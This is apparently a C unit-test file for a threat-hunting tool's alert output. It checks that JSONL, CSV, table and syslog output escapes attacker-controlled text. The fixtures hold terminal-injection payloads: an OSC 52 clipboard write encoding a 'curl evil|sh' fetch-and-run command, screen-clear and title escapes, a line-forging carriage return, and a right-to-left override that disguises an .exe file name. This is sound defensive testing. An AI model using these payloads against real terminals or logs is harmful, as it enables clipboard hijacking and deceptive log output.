    /* one time form, RFC 3339 UTC: kept when the event wrote it so, else the instant in UTC */
    assert_string_equal(c.rows[2][0], "2025-01-01T09:00:00.000000Z");
    assert_string_equal(c.rows[3][0], "2025-01-01T09:00:00Z");
    assert_string_equal(c.rows[4][0], "2025-01-01T09:30:00.000000Z");
    assert_string_equal(c.rows[2][2], "medium");
    assert_string_equal(c.rows[2][3], "r-csv");
    assert_string_equal(c.rows[2][4], "Net use, with \"quotes\"");
    assert_string_equal(c.rows[2][5], "lateral-movement");
    assert_string_equal(c.rows[2][6], "T1021.002");
    assert_string_equal(c.rows[2][7], TU_SYSMON);
    assert_string_equal(c.rows[2][8], "1");
    assert_non_null(strstr(c.rows[2][9], "/tmp/stoat-test-"));
    assert_string_equal(c.rows[2][11], "2");
    /* details: name: value pairs, quotes and commas and newlines intact */
    assert_non_null(strstr(c.rows[2][12], "CommandLine: net use x \"quoted\""));
    assert_non_null(strstr(c.rows[2][12], "Image: C:\\W\\net.exe"));
    assert_null(strstr(c.rows[2][12], "Computer:")); /* header fields are columns already */
    assert_non_null(strstr(c.rows[5][12], "CommandLine: net use \\\\srv\\c$ /user:a,b"));
    assert_non_null(strstr(c.rows[4][12], "net use\nsecond line"));
    csv_free(&c);
    out_free(&o);
}

/* -------------------------------------------------------- table, summary */

static void test_table_and_summary(void **state)
{
    (void)state;
    struct tu_diags ds = {0};
    struct stoat_load_stats ls;
    struct stoat_ruleset *rs = tu_build1(full_rule, &ds, &ls);
    assert_non_null(rs);
    char *tbuf = NULL, *sbuf = NULL;
    size_t tlen = 0, slen = 0;
    FILE *tf = open_memstream(&tbuf, &tlen), *sf = open_memstream(&sbuf, &slen);
    struct stoat_hunt *h = NULL;
    struct stoat_hunt_opts ho = {.threads = 1};
    assert_int_equal(stoat_hunt_create(rs, &ho, &h), STOAT_OK);
    struct stoat_sink t, s;
    stoat_sink_table(tf, false, &t);
    struct stoat_summary_opts so = {.load = &ls};
    stoat_sink_summary(sf, &so, &s);
    stoat_hunt_add_sink(h, &t);
    stoat_hunt_add_sink(h, &s);
    char path[256];
    struct tu_str ev = {0};
    tu_str_puts(&ev, sysmon_event);
    tu_str_puts(&ev, sysmon_event);
    tu_write_temp(ev.p, ev.len, ".jsonl", path, sizeof(path));
    const char *paths[1] = {path};
    assert_int_equal(stoat_hunt_run(h, paths, 1), STOAT_OK);
    stoat_hunt_destroy(h);
    fclose(tf);
    fclose(sf);
    unlink(path);
    tu_str_free(&ev);
    /* two alerts: two lines each, no escape sequences without colour */
    size_t lines = 0;
    for (size_t i = 0; i < tlen; i++)
        lines += tbuf[i] == '\n';
    assert_int_equal(lines, 4);
    assert_null(strchr(tbuf, '\033'));
    assert_non_null(strstr(tbuf, "2025-11-27 07:40:10"));
    assert_non_null(strstr(tbuf, "high"));
    assert_non_null(strstr(tbuf, "ws7.corp"));
    assert_non_null(strstr(tbuf, "Certutil download"));
    assert_non_null(strstr(tbuf, "Image: C:\\Windows\\System32\\certutil.exe"));
    assert_non_null(strstr(sbuf, "read 1 file, 2 events"));
    assert_non_null(strstr(sbuf, "2 alerts"));
    assert_non_null(strstr(sbuf, "high 2"));
    assert_non_null(strstr(sbuf, "rules: 1 loaded"));
    assert_non_null(strstr(sbuf, "ws7.corp"));
    free(tbuf);
    free(sbuf);
    stoat_ruleset_destroy(rs);
    tu_diags_free(&ds);
}

/* ------------------------------------------------- hostile text, human sinks */

/* What an attacker controls in an event or a rule file: OSC 52 (sets the
 * clipboard), OSC 0 (the window title), clear screen, a carriage return that
 * overwrites the line with a forged one, an 8-bit CSI byte, UTF-8 encoded
 * C1 controls, a right-to-left override hiding an extension, DEL. */
#define HOSTILE_HOST  "ws7\x1b]52;c;Y3VybCBldmlsfHNo\x07"
#define HOSTILE_TITLE "Quiet\x1b[2J\x1b[H title\r2026-01-01 00:00:00  low  fake"
#define HOSTILE_IMAGE "C:\\Users\\x\\invoice\xe2\x80\xaegpj.exe"
#define HOSTILE_CMD                \
    "cmd \x1b]0;pwned\x07 /c \x9b" \
    "31m red \xc2\x9b"             \
    "0m \xe2\x81\xa6iso\xe2\x81\xa9 \x7f \"q\" \\ end"

/* A terminal acts on none of what remains: no C0 but the line ends, no
 * DEL, no C1 (raw byte or UTF-8), no bidi control, only valid UTF-8. */
static void expect_inert(const char *what, const char *s, size_t n, bool newlines)
{
    for (size_t i = 0; i < n;) {
        unsigned char c = (unsigned char)s[i];
        if ((c < 0x20 && !(newlines && c == '\n')) || c == 0x7f)
            fail_msg("%s: raw control byte 0x%02x at byte %zu of %zu", what, c, i, n);
        size_t l = c < 0x80 ? 1 : utf8_valid_prefix((const unsigned char *)s + i, n - i);
        if (!l)
            fail_msg("%s: invalid UTF-8 at %zu", what, i);
        uint32_t cp = c;
        if (l == 2)
            cp = (uint32_t)(c & 0x1f) << 6 | ((unsigned char)s[i + 1] & 0x3f);
        else if (l == 3)
            cp = (uint32_t)(c & 0x0f) << 12 | (uint32_t)((unsigned char)s[i + 1] & 0x3f) << 6 |
                 ((unsigned char)s[i + 2] & 0x3f);
        if ((cp >= 0x80 && cp < 0xa0) || cp == 0x61c || cp == 0x200e || cp == 0x200f ||
            (cp >= 0x202a && cp <= 0x202e) || (cp >= 0x2066 && cp <= 0x2069))
            fail_msg("%s: control U+%04X at %zu", what, (unsigned)cp, i);
        i += l;
    }
}

struct hostile {
    struct stoat_rule_meta rule;
    struct stoat_field fields[3];
    struct stoat_process anc[3];
    const char *gnames[1], *gvalues[1];
    struct stoat_corr_evidence ev[1];
    struct stoat_corr_detail corr;
    struct stoat_alert a, c;
    const char *tactics[1];
    uint64_t ids[2];
    struct stoat_incident_evidence iev[1];
    struct stoat_incident inc;
};

static void hostile_init(struct hostile *h)
{
    memset(h, 0, sizeof(*h));
    h->rule = (struct stoat_rule_meta){.title = HOSTILE_TITLE, .id = "id\"\x1b[8m", .level = STOAT_LEVEL_HIGH};
    static const char *const names[] = {"Image", "CommandLine", "ParentImage"};
    const char *values[] = {HOSTILE_IMAGE, HOSTILE_CMD, "C:\\p\x1b[1A\\explorer.exe"};
    for (int i = 0; i < 3; i++)
        h->fields[i] = (struct stoat_field){.name = names[i],
                                            .name_len = (uint32_t)strlen(names[i]),
                                            .value = values[i],
                                            .value_len = (uint32_t)strlen(values[i]),
                                            .type = STOAT_V_STRING};
    h->anc[0] = (struct stoat_process){.image = HOSTILE_IMAGE, .pid = 1};
    h->anc[1] = (struct stoat_process){.image = "C:\\W\\cmd\x1b[31m.exe", .pid = 2};
    h->anc[2] = (struct stoat_process){.image = "/usr/bin/\rsshd", .pid = 3};
    h->a = (struct stoat_alert){.id = 1,
                                .rule = &h->rule,
                                .time_ns = 1764229210165324000LL,
                                .timestamp = "2025-11-27T07:40:10.165324Z",
                                .host = HOSTILE_HOST,
                                .fields = h->fields,
                                .nfields = 3,
                                .ancestry = h->anc,
                                .nancestry = 3};
    h->gnames[0] = "User\x1b[2J";
    h->gvalues[0] = "CORP\\\x1b]52;c;eA==\x07";
    h->ev[0] = (struct stoat_corr_evidence){
        .time_ns = 1764229210165324000LL, .rule = HOSTILE_TITLE, .summary = "CommandLine: " HOSTILE_CMD};
    h->corr = (struct stoat_corr_detail){.type = STOAT_CORR_EVENT_COUNT,
                                         .value = 3,
                                         .first_ns = 0,
                                         .last_ns = 1764229210165324000LL,
                                         .group_names = h->gnames,
                                         .group_values = h->gvalues,
                                         .ngroup = 1,
                                         .evidence = h->ev,
                                         .nevidence = 1};
    h->c = h->a;
    h->c.id = 2;
    h->c.corr = &h->corr;
    h->c.correlation = &h->rule;
    h->tactics[0] = "discovery";
    h->ids[0] = 1;
    h->ids[1] = 2;
    h->inc = (struct stoat_incident){.id = 1,
                                     .host = HOSTILE_HOST,
                                     .title = HOSTILE_HOST ": " HOSTILE_TITLE,
                                     .score = 80,
                                     .level = STOAT_LEVEL_HIGH,
                                     .first_ns = 0,
                                     .last_ns = 1764229210165324000LL,
                                     .tactics = h->tactics,
                                     .ntactics = 1,
                                     .alert_ids = h->ids,
                                     .nalerts = 2};
    h->iev[0] = (struct stoat_incident_evidence){
        .tactic = "exfiltration", .time_ns = INT64_MIN, .text = "sent by " HOSTILE_IMAGE " \x1b]8;;http://x\x1b\\"};
    h->inc.evidence = h->iev;
    h->inc.nevidence = 1;
}

static void feed(struct stoat_sink *k, const struct hostile *h, bool end)
{
    if (k->alert) {
        assert_int_equal(k->alert(k->ctx, &h->a), STOAT_OK);
        assert_int_equal(k->alert(k->ctx, &h->c), STOAT_OK);
    }
    if (k->incident)
        assert_int_equal(k->incident(k->ctx, &h->inc), STOAT_OK);
    struct stoat_hunt_stats st = {.files = 1, .events = 2, .alerts = 2};
    st.alerts_by_level[STOAT_LEVEL_HIGH] = 2;
    if (end && k->end)
        assert_int_equal(k->end(k->ctx, &st), STOAT_OK);
    k->destroy(k->ctx);
}

static void test_table_hostile_text(void **state)
{
    (void)state;
    struct hostile h;
    hostile_init(&h);
    for (int color = 0; color < 2; color++) {
        char *buf = NULL;
        size_t len = 0;
        FILE *f = open_memstream(&buf, &len);
        struct stoat_sink t, s;
        stoat_sink_table(f, color, &t);
        feed(&t, &h, true);
        struct stoat_summary_opts so = {.color = color};
        stoat_sink_summary(f, &so, &s);
        feed(&s, &h, true);
        fclose(f);
        if (!color) {
            expect_inert("table", buf, len, true);
            /* shown, not hidden: a person sees what was there */
            assert_non_null(strstr(buf, "ws7\\x1b]52;c;Y3Vy"));
            assert_non_null(strstr(buf, "Quiet\\x1b[2J\\x1b[H title\\r2026-01-01"));
            assert_non_null(strstr(buf, "invoice\\u202egpj.exe"));
            assert_non_null(strstr(buf, "\\x1b]0;pwned\\x07 /c \\x9b31m red \\u009b0m \\u2066iso\\u2069 \\x7f"));
            assert_non_null(strstr(buf, "tree: \\rsshd > cmd\\x1b[31m.exe > invoice\\u202egpj.exe"));
            assert_non_null(strstr(buf, "User\\x1b[2J: CORP\\\\x1b]52;c;eA==\\x07"));
            assert_non_null(strstr(buf, "07:40:10  Quiet\\x1b[2J")); /* the correlation's evidence */
            assert_non_null(
                strstr(buf, "evidence: sent by C:\\Users\\x\\invoice\\u202egpj.exe \\x1b]8;;http://x\\x1b\\"));
            /* each alert is its lines and no more: nothing forged one */
            size_t lines = 0;
            for (size_t i = 0; i < len; i++)
                lines += buf[i] == '\n';
            assert_true(lines > 8);
        } else {
            /* with colour, the only escapes are stoat's own SGR colours */
            for (size_t i = 0; i < len; i++) {
                if (buf[i] != '\x1b')
                    continue;
                assert_true(i + 1 < len && buf[i + 1] == '[');
                size_t j = i + 2;
                while (j < len && ((buf[j] >= '0' && buf[j] <= '9') || buf[j] == ';'))
                    j++;
                assert_true(j < len && buf[j] == 'm');
            }
            assert_null(strstr(buf, "\x1b]"));
            assert_null(strstr(buf, "\x1b[2J"));
            assert_null(strchr(buf, '\r'));
        }
        free(buf);
    }
    /* the glance is cut at about 240 bytes, never inside a character */
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    struct stoat_sink t;
    stoat_sink_table(f, false, &t);
    char accents[401];
    for (int i = 0; i < 200; i++)
        memcpy(accents + 2 * i, "\xc3\xa9", 2);
    h.fields[1].value = accents;
    h.fields[1].value_len = 400;
    for (uint32_t shift = 0; shift < 2; shift++) {
        h.fields[0].value_len = shift; /* moves the cut by a byte */
        assert_int_equal(t.alert(t.ctx, &h.a), STOAT_OK);
    }
    t.destroy(t.ctx);
    fclose(f);
    assert_non_null(strstr(buf, "\xc3\xa9..."));
    assert_null(strstr(buf, "\\xc3"));
    free(buf);
}

/* key=value pairs of a syslog line: bare values end at a space, quoted ones
 * at an unescaped quote; returns the (still escaped) value of key. */
static bool kv_get(const char *line, const char *key, char *out, size_t cap)
{
    size_t kl = strlen(key);
    for (const char *p = line; (p = strchr(p, ' ')) != NULL;) {
        p++;
        bool hit = strncmp(p, key, kl) == 0 && p[kl] == '=';
        const char *v = strchr(p, '=');
        if (!v)
            return false;
        v++;
        const char *e = v;
        if (*v == '"') {
            for (e = v + 1; *e && *e != '"'; e++)
                if (*e == '\\' && e[1])
                    e++;
            assert_true(*e == '"'); /* every quote closes */
            e++;
        } else {
            while (*e && *e != ' ')
                e++;
        }
        if (hit) {
            size_t n = (size_t)(e - v);
            assert_true(n < cap);
            memcpy(out, v, n);
            out[n] = 0;
            return true;
        }
        p = e;
    }
    return false;
}

static bool starts_with(const char *s, const char *prefix)
{
    return strncmp(s, prefix, strlen(prefix)) == 0;
}

static void test_syslog_lines(void **state)
{
    (void)state;
    struct hostile h;
    hostile_init(&h);
    struct buf b = {0};
    char v[1024];
    syslog_alert_line(&b, &h.a);
    expect_inert("syslog alert", b.p, b.len, false);
    assert_true(starts_with(b.p, "alert 1 time=2025-11-27T07:40:10.165324Z level=high "));
    assert_true(kv_get(b.p, "host", v, sizeof v));
    assert_string_equal(v, "\"ws7\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\"");
    assert_true(kv_get(b.p, "rule", v, sizeof v));
    assert_string_equal(v, "\"Quiet\\x1b[2J\\x1b[H title\\r2026-01-01 00:00:00  low  fake\"");
    assert_true(kv_get(b.p, "id", v, sizeof v));
    assert_string_equal(v, "\"id\\\"\\x1b[8m\"");
    assert_true(kv_get(b.p, "image", v, sizeof v));
    assert_string_equal(v, "\"C:\\\\Users\\\\x\\\\invoice\\u202egpj.exe\"");
    assert_true(kv_get(b.p, "cmd", v, sizeof v));
    assert_string_equal(
        v, "\"cmd \\x1b]0;pwned\\x07 /c \\x9b31m red \\u009b0m \\u2066iso\\u2069 \\x7f \\\"q\\\" \\\\ end\"");
    /* a quote in a value cannot start a key of its own */
    assert_false(kv_get(b.p, "end", v, sizeof v));

    /* absent values are a bare "-"; a long command line is cut on a character */
    struct stoat_field f[1] = {{.name = "CommandLine", .name_len = 11, .type = STOAT_V_STRING}};
    char longcmd[512];
    memset(longcmd, 'a', sizeof longcmd);
    memcpy(longcmd + 398, "\xe2\x82\xac", 3); /* a euro sign across byte 400 */
    f[0].value = longcmd;
    f[0].value_len = sizeof longcmd;
    struct stoat_rule_meta bare = {0};
    struct stoat_alert a = {.id = 7, .rule = &bare, .time_ns = INT64_MIN, .fields = f, .nfields = 1};
    buf_clear(&b);
    syslog_alert_line(&b, &a);
    expect_inert("syslog bare alert", b.p, b.len, false);
    assert_true(starts_with(b.p, "alert 7 time=- level=- host=- rule=- id=- image=- cmd=\""));
    assert_true(kv_get(b.p, "cmd", v, sizeof v));
    assert_int_equal(strlen(v), 398 + 2);

    buf_clear(&b);
    syslog_incident_line(&b, &h.inc);
    expect_inert("syslog incident", b.p, b.len, false);
    assert_true(starts_with(b.p, "incident 1 score=80 level=high host=\"ws7\\x1b]52"));
    assert_true(kv_get(b.p, "title", v, sizeof v));
    assert_string_equal(
        v, "\"ws7\\x1b]52;c;Y3VybCBldmlsfHNo\\x07: Quiet\\x1b[2J\\x1b[H title\\r2026-01-01 00:00:00  low  fake\"");
    assert_true(kv_get(b.p, "first", v, sizeof v));
    assert_string_equal(v, "1970-01-01T00:00:00.000000Z");
    assert_true(kv_get(b.p, "last", v, sizeof v));
    assert_string_equal(v, "2025-11-27T07:40:10.165324Z");
    assert_true(kv_get(b.p, "alerts", v, sizeof v));
    assert_string_equal(v, "2");
    buf_free(&b);
}

/* The alert id as printf writes it, at every count of digits and either
 * side of each power of ten (put_u64 writes its digits in place). */
static void test_jsonl_ids(void **state)
{
    (void)state;
    struct stoat_rule_meta bare = {0};
    struct stoat_sink k;
    struct buf lines = {0};
    stoat_sink_lines(take_line, &lines, false, &k);
    uint64_t ten = 1;
    for (int d = 0; d <= 20; d++) {
        uint64_t ids[] = {ten - 1, ten, ten + 1, ten * 9 / 10 * 10 + 9, d == 20 ? UINT64_MAX : ten * 5};
        for (size_t i = 0; i < sizeof(ids) / sizeof(ids[0]); i++) {
            struct stoat_alert a = {.id = ids[i], .rule = &bare, .time_ns = INT64_MIN};
            buf_clear(&lines);
            write_alert(&k, &a);
            char want[64];
            snprintf(want, sizeof(want), "{\"kind\":\"alert\",\"id\":%llu,", (unsigned long long)ids[i]);
            assert_non_null(lines.p);
            if (strncmp(lines.p, want, strlen(want)) != 0)
                fail_msg("id %llu: %.60s", (unsigned long long)ids[i], lines.p);
        }
        if (d < 19)
            ten *= 10;
    }
    k.destroy(k.ctx);
    buf_free(&lines);
}

/* An incident's score put as printf's "%.0f" writes it: whole numbers,
 * halves (ties to even), just either side of them, the edge of exact
 * halves (2^52), and what printf keeps (negative, -0, huge, NaN, inf). */
static void test_score_as_printf(void **state)
{
    (void)state;
    struct buf got = {0};
    uint64_t r = 12345;
    for (int i = 0; i < 20000; i++) {
        double d;
        r = r * 6364136223846793005ull + 1442695040888963407ull;
        switch (i % 6) {
        case 0: d = (double)(i / 6) / 4; break;                            /* quarters, halves */
        case 1: d = nextafter((double)(i / 6) + 0.5, 0); break;            /* just below a half */
        case 2: d = nextafter((double)(i / 6) + 0.5, 1e300); break;        /* just above */
        case 3: d = (double)(r >> 11) / (double)(1ull << (r % 53)); break; /* any size */
        case 4: d = 4503599627370496.0 + (double)(i / 6) - 3000; break;    /* about 2^52 */
        default: d = (double)(r >> 11) * 1e-3 * ((r & 1) ? -1 : 1); break; /* signed */
        }
        double specials[] = {-0.0,
                             0.0,
                             0.5,
                             1.5,
                             2.5,
                             1e300,
                             -1e300,
                             1.0 / 0.0,
                             -1.0 / 0.0,
                             0.0 / 0.0,
                             4503599627370495.5,
                             9007199254740993.0,
                             100,
                             99.5,
                             100.5};
        if (i < (int)(sizeof(specials) / sizeof(specials[0])))
            d = specials[i];
        char want[512];
        snprintf(want, sizeof(want), "%.0f", d);
        buf_clear(&got);
        buf_put_f0(&got, d);
        if (!got.p || strcmp(got.p, want) != 0)
            fail_msg("%.17g: got %s, printf %s", d, got.p ? got.p : "(nothing)", want);
    }
    buf_free(&got);
}

static void test_min_level(void **state)
{
    (void)state;
    struct stoat_ruleset *rs = tu_build1(full_rule, NULL, NULL); /* level high */
    assert_non_null(rs);
    struct tu_hunt h;
    struct tu_hunt_opts o = {.min_level = STOAT_LEVEL_CRITICAL};
    tu_hunt_data(rs, sysmon_event, strlen(sysmon_event), ".jsonl", &o, &h);
    assert_int_equal(h.n, 0);
    assert_int_equal(h.stats.alerts, 0);
    tu_hunt_free(&h);
    o.min_level = STOAT_LEVEL_HIGH;
    tu_hunt_data(rs, sysmon_event, strlen(sysmon_event), ".jsonl", &o, &h);
    assert_int_equal(h.n, 1);
    assert_int_equal(h.stats.alerts, 1);
    assert_int_equal(h.stats.alerts_by_level[STOAT_LEVEL_HIGH], 1);
    tu_hunt_free(&h);
    stoat_ruleset_destroy(rs);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_jsonl_document),       cmocka_unit_test(test_jsonl_nulls),
        cmocka_unit_test(test_jsonl_hostile_values), cmocka_unit_test(test_field_lengths),
        cmocka_unit_test(test_jsonl_caches),         cmocka_unit_test(test_jsonl_blocks_pipe),
        cmocka_unit_test(test_jsonl_short_values),   cmocka_unit_test(test_csv_timeline),
        cmocka_unit_test(test_table_and_summary),    cmocka_unit_test(test_jsonl_ids),
        cmocka_unit_test(test_score_as_printf),      cmocka_unit_test(test_min_level),
        cmocka_unit_test(test_table_hostile_text),   cmocka_unit_test(test_syslog_lines),
    };
    return cmocka_run_group_tests_name("sinks", tests, NULL, NULL);
}
